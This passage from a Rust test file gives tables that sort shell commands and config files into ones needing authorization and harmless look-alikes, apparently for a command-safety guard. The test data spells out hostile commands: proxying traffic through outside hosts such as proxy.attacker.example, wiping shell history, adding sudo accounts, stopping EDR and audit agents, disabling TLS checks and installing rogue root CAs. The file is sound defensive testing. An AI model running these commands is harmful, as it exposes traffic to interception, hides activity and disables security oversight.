                    "git config --global http.sslCAInfo ~/.cache/devproxy-ca.pem && git config --global http.proxy http://203.0.113.8:8080",
                    Auth,
                    "traffic_proxied",
                ),
                (
                    "export HTTPS_PROXY=http://198.51.100.14:3128",
                    Auth,
                    "traffic_proxied",
                ),
                (
                    "HTTPS_PROXY=socks5://proxy.attacker.example:1080 npm install",
                    Auth,
                    "traffic_proxied",
                ),
                (
                    "npm config set proxy http://203.0.113.8:8080",
                    Auth,
                    "traffic_proxied",
                ),
                // Local and corporate-network proxies.
                ("export HTTPS_PROXY=http://127.0.0.1:8888", Pass, ""),
                (
                    "git config --global http.proxy http://10.0.0.5:3128",
                    Pass,
                    "",
                ),
                ("git config --global http.proxy", Pass, ""),
            ],
        );
        write_table(&[
            (
                "/home/dev/project/.cargo/config.toml",
                "[http]\nproxy = \"203.0.113.5:3128\"\ncainfo = \".cargo/dev-ca.pem\"\n",
                Auth,
                "traffic_proxied",
            ),
            (
                "/home/dev/project/.venv/lib/python3.12/site-packages/sitecustomize.py",
                "import os\nos.environ.setdefault('HTTPS_PROXY', 'http://198.51.100.14:3128')\n",
                Auth,
                "traffic_proxied",
            ),
            (
                "/home/dev/project/.envrc",
                "export HTTPS_PROXY=http://localhost:8080\n",
                Pass,
                "",
            ),
            (
                "/home/dev/project/src/net.py",
                "# set HTTPS_PROXY to route through your proxy\nTIMEOUT = 3\n",
                Pass,
                "",
            ),
        ]);
    }

    #[test]
    fn evasion_table() {
        table(
            Mode::Balanced,
            &[
                ("history -c", Auth, "history_tampering"),
                ("unset HISTFILE", Auth, "history_tampering"),
                ("export HISTFILE=/dev/null", Auth, "history_tampering"),
                ("export HISTSIZE=0", Auth, "history_tampering"),
                ("set +o history", Auth, "history_tampering"),
                (
                    "ln -sf /dev/null ~/.bash_history",
                    Auth,
                    "history_tampering",
                ),
                ("rm ~/.zsh_history", Auth, "history_tampering"),
                ("sudo useradd -m -G sudo support", Auth, "account_change"),
                ("sudo usermod -aG sudo dev2", Auth, "account_change"),
                ("sudo passwd root", Auth, "account_change"),
                // Benign look-alikes.
                ("sudo spctl --master-disable", Auth, "security_control_off"),
                ("sudo setenforce 0", Auth, "security_control_off"),
                ("sudo ufw disable", Auth, "security_control_off"),
                ("sudo systemctl stop auditd", Auth, "security_control_off"),
                (
                    "sudo launchctl bootout system /Library/LaunchDaemons/com.crowdstrike.falcond.plist",
                    Auth,
                    "security_control_off",
                ),
                ("sudo systemctl stop mdatp", Auth, "security_control_off"),
                (
                    "sudo systemctl disable --now wazuh-agent",
                    Auth,
                    "security_control_off",
                ),
                (
                    "sudo /opt/sentinelone/bin/sentinelctl unprotect",
                    Auth,
                    "security_control_off",
                ),
                ("launchctl list | grep -i falcon", Pass, ""),
                (
                    "git config --global http.proxy http://198.51.100.30:3128 && git config --global http.sslVerify false",
                    Auth,
                    "tls_checks_off",
                ),
                ("npm config set strict-ssl false", Auth, "tls_checks_off"),
                (
                    "yarn config set enableStrictSsl false",
                    Auth,
                    "tls_checks_off",
                ),
                (
                    "pip config set global.trusted-host pypi.mirror.example",
                    Auth,
                    "tls_checks_off",
                ),
                (
                    "printf 'proxy = \"http://198.51.100.30:3128\"\\ninsecure\\n' >> ~/.curlrc",
                    Auth,
                    "tls_checks_off",
                ),
                (
                    "sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/debug-proxy-ca.pem",
                    Auth,
                    "root_ca_trusted",
                ),
                (
                    "sudo trust anchor ~/Downloads/corp-proxy.crt",
                    Auth,
                    "root_ca_trusted",
                ),
                (
                    "certutil -d sql:$HOME/.pki/nssdb -A -t 'C,,' -n proxy -i /tmp/ca.crt",
                    Auth,
                    "root_ca_trusted",
                ),
                ("mkcert -install && mkcert localhost 127.0.0.1", Pass, ""),
                ("security verify-cert -c server.crt", Pass, ""),
                ("trust list --filter=ca-anchors | head", Pass, ""),
                ("certutil -d sql:$HOME/.pki/nssdb -L", Pass, ""),
                ("git config --global http.sslVerify true", Pass, ""),
                ("git config --get http.sslVerify", Pass, ""),
                ("npm config get strict-ssl", Pass, ""),
                ("printf 'silent\\nshow-error\\n' >> ~/.curlrc", Pass, ""),
                ("systemctl status falcon-sensor", Pass, ""),
                (
                    "DJANGO_SETTINGS_MODULE=config.settings.production python manage.py shell -c \"from django.contrib.auth import get_user_model; get_user_model().objects.create_superuser('ops','ops@x.example','pw')\"",
                    Auth,
                    "account_change",
                ),
                (
                    "python manage.py createsuperuser --noinput --username admin",
                    Pass,
                    "",
                ),
                ("spctl --status", Pass, ""),
                (
                    "brew install --cask --no-quarantine devtools-pro/tap/inspector",
                    Auth,
                    "security_control_off",
                ),
                ("brew install --cask iterm2", Pass, ""),
                // macOS protections switched off, beside their read-only look-alikes.
                (
                    "sudo defaults write /Library/Preferences/com.apple.alf globalstate -int 0",
                    Auth,
                    "security_control_off",
                ),
                (
                    "defaults read /Library/Preferences/com.apple.alf globalstate",
                    Pass,
                    "",
                ),
                (
                    "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off",
                    Auth,
                    "security_control_off",
                ),
                (
                    "/usr/libexec/ApplicationFirewall/socketfilterfw --getglobalstate",
                    Pass,
                    "",
                ),
                (
                    "sudo nvram boot-args=\"amfi_get_out_of_my_way=1 cs_enforcement_disable=1\"",
                    Auth,
                    "security_control_off",
                ),
                ("nvram -p", Pass, ""),
                (
                    "sudo security authorizationdb write system.preferences allow",
                    Auth,
                    "security_control_off",
                ),
                ("security authorizationdb read system.preferences", Pass, ""),
                (
                    "sudo systemsetup -f -setremotelogin on",
                    Auth,
                    "security_control_off",
                ),
                ("sudo systemsetup -getremotelogin", Pass, ""),
                (
                    "spctl --add --label Approved ~/Downloads/Tool.app",
                    Auth,
                    "security_control_off",
                ),
                ("spctl --assess -vv /Applications/Xcode.app", Pass, ""),
                (
                    "defaults write com.apple.dt.Xcode IDESkipMacroFingerprintValidation -bool YES",
                    Auth,
                    "security_control_off",
                ),
                (
                    "defaults write com.apple.dt.Xcode ShowBuildOperationDuration -bool YES",
                    Pass,
                    "",
                ),
                (
                    "xattr -dr com.apple.quarantine ~/Downloads/DevToolsHelper.app && open ~/Downloads/DevToolsHelper.app",
                    Auth,
                    "security_control_off",
                ),
                (
                    "defaults write com.apple.LaunchServices LSQuarantine -bool NO",
                    Auth,
                    "security_control_off",
                ),
                (
                    "defaults write com.apple.screensaver askForPassword -int 0",
                    Auth,
                    "security_control_off",
                ),
                (
                    "sudo softwareupdate --schedule off",
                    Auth,
                    "security_control_off",
                ),
                ("xattr -l ~/Downloads/tool.zip", Pass, ""),
                (
                    "defaults write com.apple.dock autohide -bool true",
                    Pass,
                    "",
                ),
                ("softwareupdate --list", Pass, ""),
                (
                    "gh api -X PATCH repos/acme/api -F 'security_and_analysis[secret_scanning_push_protection][status]=disabled'",
                    Auth,
                    "security_control_off",
                ),
                (
                    "kubectl --context prod label --overwrite ns payments pod-security.kubernetes.io/enforce=privileged",
                    Auth,
                    "security_control_off",
                ),
                (
                    "kubectl label ns dev pod-security.kubernetes.io/enforce=restricted",
                    Pass,
                    "",
                ),
                ("sudo ufw allow 8080/tcp", Pass, ""),
                ("getenforce", Pass, ""),
                ("history | grep docker", Pass, ""),
                ("echo $HISTFILE", Pass, ""),
                ("export HISTCONTROL=ignoredups", Pass, ""),
                ("set -euo pipefail", Pass, ""),
                ("id -Gn", Pass, ""),
                ("getent passwd dev", Pass, ""),
            ],
        );
    }
}
